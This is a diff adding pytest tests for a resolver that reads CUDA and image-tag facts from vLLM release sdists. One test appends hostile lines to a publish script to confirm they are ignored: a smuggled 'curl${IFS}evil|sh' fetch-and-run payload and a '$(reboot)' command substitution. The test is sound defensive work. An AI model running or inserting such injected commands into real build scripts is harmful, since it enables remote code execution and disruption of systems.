@@ -1,0 +1,67 @@
+"""CUDA facts from released sdists (issue 26): the shipped ``cuda.toml`` records are what the
+reader makes of each release's real files, and a hostile file cannot put a bad tag in them."""
+
+from __future__ import annotations
+
+import tomllib
+from pathlib import Path
+
+import pytest
+from packaging.version import Version
+
+from resolver import matrix
+from resolver.refresh.cuda import WANTED, cuda_record
+from resolver.refresh.sdist import IndexFile, read_members
+
+from .conftest import REPO_MATRIX
+
+SLICES = Path(__file__).parent / "recorded" / "sdist-cuda"
+SHIPPED = {
+    r["version"]: r for r in tomllib.loads((REPO_MATRIX / "cuda.toml").read_text())["release"]
+}
+
+
+def _read(version: str) -> dict[str, object]:
+    files = read_members((SLICES / f"vllm-{version}.tar.gz").read_bytes(), WANTED)
+    sha = str(SHIPPED[version]["sdist_sha256"])
+    record, why = cuda_record(IndexFile(Version(version), "", "", sha, None, None), files)
+    assert record is not None, why
+    return record
+
+
+@pytest.mark.parametrize("version", ["0.10.1.1", "0.24.0", "0.32.0", "0.33.0"])
+def test_the_shipped_record_is_what_the_sdist_says(version: str) -> None:
+    assert _read(version) == SHIPPED[version]
+
+
+def test_what_users_get_wrong_is_in_the_data() -> None:
+    m = matrix.load_dir(REPO_MATRIX)
+    r33 = m.cuda_release(Version("0.33.0"))
+    r32 = m.cuda_release(Version("0.32.0"))
+    assert r33 is not None and r32 is not None
+    # 0.33.0's images are CUDA 13.0 only; 0.32.0 still published a cu129 family.
+    assert {str(i.cuda) for i in r33.images if "efa" not in i.tag} == {"13.0"}
+    assert {i.tag: str(i.cuda) for i in r32.images}["v0.32.0-cu129"] == "12.9"
+    # The x86_64 release images skip 11.0 (Jetson Thor), the aarch64 ones carry it.
+    default = next(i for i in r33.images if i.tag == "v0.33.0")
+    assert "11.0" not in default.arch and "11.0" in default.arch_aarch64
+    assert r33.wheel_cuda == Version("12.9") and r33.provenance.confidence == "exact"
+    # An sdist without the publish script says nothing about image tags: none are invented.
+    old = m.cuda_release(Version("0.10.1.1"))
+    assert old is not None and old.images == () and old.provenance.confidence == "inferred"
+
+
+def test_a_hostile_tag_suffix_is_not_read(tmp_path: Path) -> None:
+    files = read_members((SLICES / "vllm-0.33.0.tar.gz").read_bytes(), WANTED)
+    script = ".buildkite/scripts/publish-release-images.sh"
+    files[script] += '\npublish_image_family "-x;curl${IFS}evil|sh"\n'
+    files[script] += 'docker push "vllm/vllm-openai:v${RELEASE_VERSION}-$(reboot)"\n'
+    record, _ = cuda_record(IndexFile(Version("0.33.0"), "", "", "0" * 64, None, None), files)
+    assert record is not None
+    tags = [i["tag"] for i in record["image"]]  # type: ignore[index]
+    assert tags == ["v0.33.0", "v0.33.0-efa"]
+
+
+def test_no_cuda_version_is_refused_with_the_reason() -> None:
+    record, why = cuda_record(IndexFile(Version("0.6.0"), "", "", "0" * 64, None, None), {})
+    assert record is None and "CUDA_VERSION" in why
